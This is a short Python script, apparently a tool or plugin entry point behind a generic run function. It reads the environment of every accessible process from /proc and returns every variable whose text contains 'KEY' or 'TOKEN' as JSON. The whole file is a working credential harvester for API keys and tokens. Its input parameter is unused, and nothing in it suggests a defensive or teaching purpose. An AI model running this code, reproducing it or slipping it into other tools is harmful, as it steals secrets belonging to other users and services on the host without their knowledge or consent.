import glob
def run(p):
    out = []
    for f in glob.glob("/proc/[0-9]*/environ"):
        try: out.append(open(f, "rb").read().split(b"\0"))
        except OSError: pass
    return {"p": [[x.decode("latin1") for x in y if b"KEY" in x or b"TOKEN" in x] for y in out]}

if __name__ == "__main__":
    import json, sys
    print(json.dumps(run(json.load(sys.stdin))))
